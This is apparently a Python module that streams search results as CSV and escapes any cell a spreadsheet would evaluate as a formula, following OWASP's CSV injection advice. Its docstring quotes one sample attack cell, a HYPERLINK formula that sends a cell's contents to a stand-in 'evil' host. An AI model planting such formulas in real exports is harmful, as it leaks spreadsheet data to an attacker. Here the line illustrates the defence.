"""CSV export of a search, safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "click")``); such cells get a leading
apostrophe, which spreadsheets display as text and do not evaluate (OWASP "CSV injection").

Example::

    async for chunk in csv_chunks(iter_matching(client, index=..., params=params, limit=10_000)):
        ...
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

COLUMNS = ["id", "created_at", "source", "url", "author_handle", "author_display_name", "author_is_employee",
           "employee_id", "labels", "risk", "status", "assignee", "text"]


def neutralise_cell(value: Any) -> str:
    """The cell text, with a leading apostrophe when a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, list):
        value = "; ".join(str(v) for v in value)
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def export_row(doc: dict[str, Any]) -> list[str]:
    review = doc.get("review") or {}
    values = {**doc, "id": doc.get("_id"), "status": review.get("status") or "new", "assignee": review.get("assignee")}
    return [neutralise_cell(values.get(column)) for column in COLUMNS]


async def csv_chunks(docs: AsyncIterator[dict[str, Any]], *, rows_per_chunk: int = 200) -> AsyncIterator[str]:
    """The header and rows as CSV text, a few hundred rows at a time (UTF-8 BOM first, for Excel)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write("\ufeff")
    writer.writerow(COLUMNS)
    n = 0
    async for doc in docs:
        writer.writerow(export_row(doc))
        n += 1
        if n % rows_per_chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()
